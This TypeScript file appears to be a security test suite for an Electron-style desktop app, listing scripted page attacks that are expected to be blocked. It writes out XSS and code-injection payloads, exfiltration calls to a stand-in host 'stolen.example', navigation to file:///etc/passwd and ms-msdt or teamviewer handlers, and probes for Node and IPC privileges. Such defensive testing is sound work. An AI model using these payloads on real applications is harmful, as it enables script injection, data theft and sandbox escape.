/**
 * What a script in the page may try. Each runs in the page from a timer, since what a debugger evaluates itself is not bound by
 * the page's policy. It returns `out` when it got what it wanted; injected code calls `pwned`; every address leads to
 * a listener that should hear nothing.
 */
export interface PageAttack {
  readonly kind: 'code' | 'network' | 'navigation' | 'permission' | 'privilege';
  readonly name: string;
  /** The body of an async function. `turn` lets the page do what it was told. */
  readonly source: string;
}

const evil = 'https://stolen.example/';

/** Puts an element into the page with properties and attributes. */
const put = (tag: string, properties: string, more = ''): string =>
  `const it = document.createElement('${tag}'); ${properties}; document.body.append(it); ${more}; await turn(); it.remove();`;
const granted = (ask: string): string => `await (${ask}); return 'out';`;

const code = [
  ['eval', `(0, eval)('pwned("eval")')`],
  ['Function', `new Function('pwned("Function")')()`],
  ['setTimeout of a text', `setTimeout('pwned("setTimeout")', 0); await turn();`],
  ['setInterval of a text', `clearInterval(setInterval('pwned("setInterval")', 0)); await turn();`],
  ['innerHTML', `document.createElement('div').innerHTML = '<img src=x onerror="pwned(1)">'; return 'out';`],
  ['outerHTML', put('div', '', `it.outerHTML = '<img src=x onerror="pwned(2)">'; return 'out'`)],
  [
    'insertAdjacentHTML',
    `document.body.insertAdjacentHTML('beforeend', '<img src=x onerror="pwned(3)">'); return 'out';`,
  ],
  ['document.write', `document.write('<script>pwned(4)</scr' + 'ipt>'); return 'out';`],
  ['DOMParser', `new DOMParser().parseFromString('<b>x</b>', 'text/html'); return 'out';`],
  [
    'createContextualFragment',
    `document.createRange().createContextualFragment('<script>pwned(5)</scr' + 'ipt>'); return 'out';`,
  ],
  ['setHTMLUnsafe', `document.createElement('div').setHTMLUnsafe('<b>x</b>'); return 'out';`],
  ['parseHTMLUnsafe', `Document.parseHTMLUnsafe('<b>x</b>'); return 'out';`],
  ['srcdoc of a frame', put('iframe', `it.srcdoc = '<script>parent.pwned(6)</scr' + 'ipt>'`)],
  ['text of a script element', put('script', `it.textContent = 'pwned(7)'`)],
  ['script from data', put('script', `it.src = 'data:text/javascript,pwned(8)'`)],
  ['script from a blob', put('script', `it.src = URL.createObjectURL(new Blob(['pwned(9)']))`)],
  ['script from outside', put('script', `it.src = '${evil}x.js'`)],
  ['module from data', `await import('data:text/javascript,pwned(10)'); return 'out';`],
  [
    'module from a blob',
    `await import(URL.createObjectURL(new Blob(['pwned(11)'], { type: 'text/javascript' }))); return 'out';`,
  ],
  [
    'script of an SVG',
    `const svg = document.createElementNS('http://www.w3.org/2000/svg', 'script'); svg.textContent = 'pwned(12)'; document.body.append(svg); await turn(); svg.remove();`,
  ],
  ['handler in an attribute', put('button', `it.setAttribute('onclick', 'pwned(13)')`, 'it.click()')],
  ['javascript link', put('a', `it.href = 'javascript:pwned(14)'`, 'it.click()')],
  ['javascript location', `location.href = 'javascript:pwned(15)'; await turn();`],
  ['javascript in a form', put('form', `it.action = 'javascript:pwned(16)'`, 'it.submit()')],
  ['javascript in a frame', put('iframe', `it.src = 'javascript:parent.pwned(17)'`)],
  ['policy of another name', `trustedTypes.createPolicy('mine', { createHTML: (text) => text }); return 'out';`],
  [
    'policy for everything',
    `trustedTypes.createPolicy('default', { createHTML: (text) => text, createScript: (text) => text }); return 'out';`,
  ],
  [
    'the policy of the page again',
    `document.createElement('div').innerHTML = trustedTypes.createPolicy('svelte-trusted-html', { createHTML: (text) => text }).createHTML('<b>x</b>'); return 'out';`,
  ],
  ['worker from data', `new Worker('data:text/javascript,postMessage(1)').onmessage = () => pwned(18); await turn();`],
  [
    'worker from a blob',
    `new Worker(URL.createObjectURL(new Blob(['postMessage(1)']))).onmessage = () => pwned(19); await turn();`,
  ],
  [
    'shared worker',
    `new SharedWorker('data:text/javascript,onconnect=(e)=>e.ports[0].postMessage(1)').port.onmessage = () => pwned(20); await turn();`,
  ],
  ['service worker', `await navigator.serviceWorker.register('/sw.js'); return 'out';`],
  ['WebAssembly', `await WebAssembly.compile(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0])); return 'out';`],
  ['object', put('object', `it.data = 'data:text/html,<script>parent.pwned(21)</scr' + 'ipt>'`)],
  ['embed', put('embed', `it.src = 'data:text/html,<script>parent.pwned(22)</scr' + 'ipt>'`)],
  [
    'style element',
    put(
      'style',
      `it.textContent = 'body { --owned: yes }'`,
      `if (getComputedStyle(document.body).getPropertyValue('--owned') !== '') return 'out'`,
    ),
  ],
  [
    'style attribute',
    put(
      'i',
      `it.setAttribute('style', '--owned: yes')`,
      `if (getComputedStyle(it).getPropertyValue('--owned') !== '') return 'out'`,
    ),
  ],
] as const;

const network = [
  ['fetch', `await fetch('${evil}fetch'); return 'out';`],
  ['fetch without reading', `await fetch('${evil}cors', { mode: 'no-cors', keepalive: true }); return 'out';`],
  ['fetch of a file', `await fetch('file:///etc/passwd'); return 'out';`],
  ['fetch of our own page', `await fetch(location.href); return 'out';`],
  [
    'XMLHttpRequest',
    `await new Promise((settle, fail) => { const it = new XMLHttpRequest(); it.onload = settle; it.onerror = fail; it.open('GET', '${evil}xhr'); it.send(); }); return 'out';`,
  ],
  ['beacon', `navigator.sendBeacon('${evil}beacon', 'x');`],
  [
    'web socket',
    `await new Promise((settle, fail) => { const it = new WebSocket('wss://stolen.example/'); it.onopen = settle; it.onerror = fail; }); return 'out';`,
  ],
  [
    'event source',
    `await new Promise((settle, fail) => { const it = new EventSource('${evil}events'); it.onopen = settle; it.onerror = fail; }); return 'out';`,
  ],
  ['WebTransport', `await new WebTransport('${evil}wt').ready; return 'out';`],
  [
    'call to a relay over TCP',
    `const it = new RTCPeerConnection({ iceTransportPolicy: 'relay', iceServers: [{ urls: 'turn:stolen.example:443?transport=tcp', username: 'device-name', credential: 'x' }] }); it.createDataChannel('x'); await it.setLocalDescription(await it.createOffer()); await new Promise((settle) => { it.onicegatheringstatechange = () => it.iceGatheringState === 'complete' && settle(); setTimeout(settle, 1500); });`,
  ],
  ['image', put('img', `it.src = '${evil}i.png'`)],
  [
    'image of an SVG',
    `const it = document.createElementNS('http://www.w3.org/2000/svg', 'image'); it.setAttribute('href', '${evil}s.png'); const svg = document.createElementNS('http://www.w3.org/2000/svg', 'svg'); svg.append(it); document.body.append(svg); await turn(); svg.remove();`,
  ],
  ['background', put('i', `it.style.backgroundImage = 'url(${evil}b.png)'`)],
  [
    'imported style',
    `const it = new CSSStyleSheet(); await it.replace('body { background: url(${evil}c.png) }'); document.adoptedStyleSheets = [...document.adoptedStyleSheets, it]; await turn(); document.adoptedStyleSheets = document.adoptedStyleSheets.filter((one) => one !== it);`,
  ],
  ['style sheet', put('link', `it.rel = 'stylesheet'; it.href = '${evil}x.css'`)],
  ['font', `await new FontFace('x', 'url(${evil}f.woff2)').load(); return 'out';`],
  ['sound', put('audio', `it.src = '${evil}a.mp3'`, 'it.load()')],
  ['film', put('video', `it.poster = '${evil}p.png'; it.src = '${evil}v.mp4'`, 'it.load()')],
  ['prefetch', put('link', `it.rel = 'prefetch'; it.href = '${evil}pre'`)],
  ['preconnect', put('link', `it.rel = 'preconnect'; it.href = '${evil}'`)],
  ['name prefetch', put('link', `it.rel = 'dns-prefetch'; it.href = 'https://device-name.stolen.example'`)],
  ['preload', put('link', `it.rel = 'preload'; it.as = 'script'; it.href = '${evil}load.js'`)],
  ['module preload', put('link', `it.rel = 'modulepreload'; it.href = '${evil}m.js'`)],
  [
    'speculation',
    put(
      'script',
      `it.type = 'speculationrules'; it.textContent = JSON.stringify({ prefetch: [{ source: 'list', urls: ['${evil}spec'] }] })`,
    ),
  ],
  ['form', put('form', `it.action = '${evil}form'; it.method = 'post'`, 'it.submit()')],
  ['ping of a link', put('a', `it.href = '#x'; it.ping = '${evil}ping'`, 'it.click()')],
  ['manifest', put('link', `it.rel = 'manifest'; it.href = '${evil}m.json'`)],
  ['icon', put('link', `it.rel = 'icon'; it.href = '${evil}favicon.ico'`)],
] as const;

const navigation = [
  ['location', `location.assign('${evil}'); await turn();`],
  ['location to a file', `location.assign('file:///etc/passwd'); await turn();`],
  ['location to data', `location.assign('data:text/html,x'); await turn();`],
  [
    'location to a blob',
    `location.assign(URL.createObjectURL(new Blob(['<h1>x</h1>'], { type: 'text/html' }))); await turn();`,
  ],
  ['location to another page of ours', `location.assign('app://deskside/other.html'); await turn();`],
  ['location to a program', `location.assign('teamviewer10://control?device=1'); await turn();`],
  ['location to the settings of the system', `location.assign('ms-msdt:/id'); await turn();`],
  ['link in the same window', put('a', `it.href = '${evil}link'`, 'it.click()')],
  ['link in a new window', put('a', `it.href = '${evil}blank'; it.target = '_blank'`, 'it.click()')],
  ['download', put('a', `it.href = 'data:text/plain,x'; it.download = 'x.desktop'`, 'it.click()')],
  [
    'download of a blob',
    put('a', `it.href = URL.createObjectURL(new Blob(['x'])); it.download = 'x.sh'`, 'it.click()'),
  ],
  ['new window', `return globalThis.open('${evil}open') === null ? 'refused' : 'out';`],
  ['empty new window', `return globalThis.open('about:blank') === null ? 'refused' : 'out';`],
  [
    'new window of a blob',
    `return globalThis.open(URL.createObjectURL(new Blob(['x']))) === null ? 'refused' : 'out';`,
  ],
  ['new window of ours', `return globalThis.open('app://deskside/index.html') === null ? 'refused' : 'out';`],
  ['mail', `return globalThis.open('mailto:a@stolen.example?body=x') === null ? 'refused' : 'out';`],
  ['frame', put('iframe', `it.src = '${evil}frame'`)],
  [
    'frame with the bridge',
    put('iframe', `it.src = 'app://deskside/index.html'`, `if ('deskside' in (it.contentWindow ?? {})) return 'out'`),
  ],
  ['webview', put('webview', `it.setAttribute('src', '${evil}guest')`)],
  [
    'refresh',
    `const it = document.createElement('meta'); it.httpEquiv = 'refresh'; it.content = '0;url=${evil}refresh'; document.head.append(it); await turn(); it.remove();`,
  ],
  [
    'another base',
    `const it = document.createElement('base'); it.href = '${evil}'; document.head.append(it); const away = document.baseURI.startsWith('${evil}'); it.remove(); return away ? 'out' : 'refused';`,
  ],
  ['history of another place', `history.pushState(null, '', '${evil}'); return 'out';`],
] as const;

const permissions = [
  ['microphone', granted('navigator.mediaDevices.getUserMedia({ audio: true })')],
  ['camera', granted('navigator.mediaDevices.getUserMedia({ video: true })')],
  ['screen', granted('navigator.mediaDevices.getDisplayMedia({ video: true })')],
  [
    'desktop by the old way',
    granted(`navigator.mediaDevices.getUserMedia({ video: { mandatory: { chromeMediaSource: 'desktop' } } })`),
  ],
  [
    'state of the microphone',
    `return (await navigator.permissions.query({ name: 'microphone' })).state === 'granted' ? 'out' : 'refused';`,
  ],
  ['place', granted('new Promise((settle, fail) => navigator.geolocation.getCurrentPosition(settle, fail))')],
  ['notifications', `return (await Notification.requestPermission()) === 'granted' ? 'out' : 'refused';`],
  ['reading the clipboard', granted('navigator.clipboard.readText()')],
  ['Bluetooth', granted('navigator.bluetooth.requestDevice({ acceptAllDevices: true })')],
  ['USB', granted('navigator.usb.requestDevice({ filters: [] })')],
  ['serial port', granted('navigator.serial.requestPort()')],
  ['HID', granted('navigator.hid.requestDevice({ filters: [] })')],
  ['MIDI', granted('navigator.requestMIDIAccess({ sysex: true })')],
  ['whole screen', granted('document.body.requestFullscreen()')],
  ['fonts', granted('queryLocalFonts()')],
  ['idleness', `return (await IdleDetector.requestPermission()) === 'granted' ? 'out' : 'refused';`],
  ['files', granted('showOpenFilePicker()')],
  ['lasting storage', `return (await navigator.storage.persist()) ? 'out' : 'refused';`],
  ['screens', granted('getScreenDetails()')],
] as const;

const privileges = [
  ['process', `return typeof process === 'undefined' ? 'refused' : 'out';`],
  ['require', `return typeof require === 'undefined' && typeof module === 'undefined' ? 'refused' : 'out';`],
  ['ipcRenderer', `return 'ipcRenderer' in globalThis || 'electron' in globalThis ? 'out' : 'refused';`],
  [
    'another call in the bridge',
    `deskside.requests.send = () => 'mine'; return deskside.requests.send() === 'mine' ? 'out' : 'refused';`,
  ],
  ['another bridge', `globalThis.deskside = {}; return Object.keys(deskside).length === 0 ? 'out' : 'refused';`],
  [
    'constructor of the other world',
    `return deskside.session.current.constructor('return typeof process')() === 'object' ? 'out' : 'refused';`,
  ],
  ['opener', `return globalThis.opener === null && globalThis.parent === globalThis ? 'refused' : 'out';`],
] as const;

const group = (kind: PageAttack['kind'], list: readonly (readonly [string, string])[]) =>
  list.map(([name, source]): PageAttack => ({ kind, name, source }));

export const pageAttacks: readonly PageAttack[] = [
  ...group('code', code),
  ...group('network', network),
  ...group('navigation', navigation),
  ...group('permission', permissions),
  ...group('privilege', privileges),
];
